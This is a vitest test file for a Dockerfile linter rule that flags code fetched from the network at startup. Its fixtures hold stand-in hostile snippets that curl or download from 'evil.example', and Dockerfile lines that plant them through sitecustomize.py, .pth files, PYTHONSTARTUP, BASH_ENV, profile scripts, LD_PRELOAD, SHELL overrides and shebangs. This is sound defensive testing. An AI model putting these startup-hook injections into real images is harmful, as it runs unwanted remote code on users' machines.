import { expect, test } from 'vitest';
import { check } from '../../../src/engine/check/check.ts';
import downloads from '../../../src/rules/no-runtime-download.ts';
import { factsOf } from '../../helpers/project.ts';

const evil = 'import urllib.request\nurllib.request.urlopen("https://evil.example/x")\n';
const packages = '/usr/local/lib/python3.13/site-packages';

async function verdictOf(lines: string, start = '["python3", "/app/main.py"]', more = {}): Promise<string | undefined> {
  const files = {
    Dockerfile: `FROM docker.io/library/python:3.13\nCOPY src/ /app/\n${lines}\nENTRYPOINT ${start}\n`,
    'src/main.py': 'print("hello")\n',
    'src/run.sh': 'python3 /app/main.py\n',
    'src/evil.py': evil,
    'src/evil.sh': 'curl -O https://evil.example/x\n',
    'src/x.pth': 'import evil\n',
    'src/lib.so': 'x',
    'other/sitecustomize.py': evil,
    'other/python3': '#!/bin/sh\ncurl -O https://evil.example/x\n',
    ...more,
  };
  return check(await factsOf(files), [downloads]).results[0]?.verdict;
}

test.each([
  [`COPY src/evil.py ${packages}/sitecustomize.py`, undefined],
  ['COPY other/ /other/\nENV PYTHONPATH=/other', undefined],
  ['WORKDIR /other\nCOPY other/ /other/\nENV PYTHONPATH=.', undefined],
  ['ENV BASH_ENV=/app/evil.sh', '["bash", "/app/run.sh"]'],
  [`RUN echo "import evil" > ${packages}/sitecustomize.py`, undefined],
  ['COPY other/python3 /usr/local/bin/python3', undefined],
  ['COPY other/ /other/\nENV PATH=/other:$PATH', undefined],
  ['COPY other/ /other/\nRUN ln -sf /other/python3 /usr/local/bin/python3', undefined],
])('what runs before the program, or in its stead, is read: %s', async (lines, start) => {
  expect(await verdictOf(lines, start)).toBe('fail');
});

const more = {
  'src/evil.R': 'download.file("https://evil.example/x", "x")\n',
  'src/evil.jl': 'download("https://evil.example/x")\n',
  'src/main.R': 'x <- 1\n',
  'src/main.jl': 'x = 1\n',
};
const session = '["python3", "-i", "/app/main.py"]';
const r = '["Rscript", "/app/main.R"]';
const julia = '["julia", "/app/main.jl"]';

test.each([
  ['ENV PYTHONSTARTUP=/app/evil.py', session],
  ['ENV PYTHONSTARTUP=/app/evil.py', '["python3"]'],
  ['ENV PYTHONSTARTUP=/app/evil.py PYTHONINSPECT=1', undefined],
  ['ENV R_PROFILE=/app/evil.R', r],
  ['ENV R_PROFILE_USER=/app/evil.R', r],
  ['COPY src/evil.jl /root/.julia/config/startup.jl', julia],
  ['COPY src/evil.jl /usr/local/julia/etc/julia/startup.jl', julia],
  ['', '["julia", "-L", "/app/evil.jl", "/app/main.jl"]'],
  ['ENV BASH_ENV=/app/evil.sh', '["bash", "-c", "python3 /app/main.py"]'],
  ['ENV ENV=/app/evil.sh', '["sh", "-i", "/app/run.sh"]'],
  ['COPY src/evil.sh /etc/profile.d/evil.sh', '["bash", "-l", "/app/run.sh"]'],
  ['COPY src/evil.sh /root/.bash_profile', '["bash", "-lc", "python3 /app/main.py"]'],
  ['COPY src/evil.sh /root/.bashrc', '["bash", "-ic", "python3 /app/main.py"]'],
  ['SHELL ["/bin/bash", "-c", "curl -O https://evil.example/x; eval $0"]', 'python3 /app/main.py'],
  ['COPY other/python3 /app/sh\nSHELL ["/app/sh", "-c"]', 'python3 /app/main.py'],
  ['', '["bash", "/app/odd.py"]'],
  ['', 'python3 /dev/stdin < /app/evil.py'],
])('and what an interpreter reads as its options, variables and SHELL ask for: %s %s', async (lines, start) => {
  expect(await verdictOf(lines, start, { ...more, 'src/odd.py': 'curl -O https://evil.example/x\n' })).toBe('fail');
});

test.each([
  ['ENV PYTHONSTARTUP=/app/evil.py', undefined],
  ['COPY src/evil.jl /root/.julia/config/startup.jl', '["julia", "--startup-file=no", "/app/main.jl"]'],
  ['ENV R_PROFILE=/app/evil.R', '["Rscript", "--vanilla", "/app/main.R"]'],
  ['COPY src/evil.sh /root/.bashrc', '["bash", "-c", "python3 /app/main.py"]'],
  ['SHELL ["/bin/bash", "-o", "pipefail", "-c"]', 'python3 /app/main.py'],
  ['SHELL ["conda", "run", "-n", "env", "/bin/bash", "-c"]', 'python3 /app/main.py'],
])('or does not: %s %s', async (lines, start) => {
  expect(await verdictOf(lines, start, more)).toBe('pass');
});

test.each([
  ['ENV PYTHONHOME=/app', undefined],
  ['COPY src/x.pth /etc/ld.so.preload', undefined],
  ['', 'cat /app/main.py | python3'],
  ['', '["bash", "-c", "/app/odd.py"]'],
])('what nobody can read there is not passed: %s %s', async (lines, start) => {
  expect(await verdictOf(lines, start, { 'src/odd.py': 'print(1)\n' })).toBe('unknown');
});

test.each([
  [`COPY src/x.pth ${packages}/`],
  [`RUN echo "import evil" > ${packages}/x.pth`],
  ['ENV LD_PRELOAD=/app/lib.so'],
])('or is not passed: %s', async (lines) => {
  expect(await verdictOf(lines)).not.toBe('pass');
});

const shebang = (line: string): Promise<string | undefined> =>
  verdictOf('', '["/app/begin"]', { 'src/begin': `${line}\nprint(1)\n` });

test('a first line that starts another program is read', async () => {
  expect(await shebang('#!/usr/bin/env -S python3 /app/evil.py')).toBe('fail');
  expect(await shebang('#!/usr/local/bin/python3 /app/evil.py')).toBe('fail');
  expect(await shebang('#!/usr/bin/env python3')).toBe('pass');
  expect(await shebang('#!/usr/local/bin/python3 -u')).toBe('pass');
});

test.each([
  'COPY other/ /other/',
  `RUN echo "x = 1" > ${packages}/sitecustomize.py`,
  'ENV BASH_ENV=/app/evil.sh',
  'ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2',
  'ENV PATH=/app/bin:$PATH PYTHONPATH=/app',
])('and what runs before nothing is no matter: %s', async (lines) => {
  expect(await verdictOf(lines)).toBe('pass');
});
